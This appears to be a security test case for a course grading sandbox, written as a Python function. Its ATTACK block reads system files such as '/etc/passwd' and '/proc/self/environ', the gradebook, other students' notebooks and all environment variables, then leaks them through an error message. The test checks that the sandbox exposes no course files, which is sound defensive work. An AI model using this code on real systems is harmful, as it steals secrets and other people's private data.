# Tries: host code that reads the secret, the checks, the gradebook and others' notebooks, and puts them into an error message.
# Ends: the sandbox contains libraries and no file of the course.
def gaps(db):
    ### ATTACK
    import glob
    import os

    found = []
    names = ["@SECRET@", "@ROOT@/gradebook.db", "@VICTIM@", "/proc/self/environ", "/proc/1/cmdline", "/etc/passwd"]
    for name in names + glob.glob("@ROOT@/store/labs/*/*") + glob.glob("@ROOT@/store/marks/*/*/*"):
        try:
            with open(name, "rb") as file:
                found.append(file.read().decode(errors="replace"))
        except OSError:
            pass
    found += [f"{name}={value}" for name, value in os.environ.items()]
    raise RuntimeError(" ".join(found)[-190:])
    ### END
    raise RuntimeError


### BASE
